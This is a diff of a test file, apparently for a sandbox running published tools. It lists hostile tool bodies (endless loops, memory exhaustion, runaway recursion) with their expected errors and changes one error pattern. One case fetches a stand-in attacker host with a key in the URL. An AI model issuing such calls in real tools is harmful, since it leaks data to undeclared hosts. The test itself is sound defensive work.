@@ -30,7 +30,7 @@ describe("a published tool", () => {
     ["loops for ever", "for (;;) {}", "TOOL_TIMEOUT", /1000 ms|time/],
     ["never settles", "await new Promise(() => {})", "TOOL_TIMEOUT", /never settle|time/],
     ["exhausts memory", "const a = []; for (;;) a.push('x'.repeat(1e6) + a.length)", "TOOL_OUT_OF_MEMORY", /memory/],
-    ["recurses without end", "const f = () => f() + 1; f()", "TOOL_OUT_OF_MEMORY", /stack/i],
+    ["recurses without end", "const f = () => f() + 1; f()", "TOOL_OUT_OF_MEMORY", /recurs|deep|stack/i],
     [
       "calls a host that it did not declare",
       "await fetch('https://evil.example.org/?key=1')",
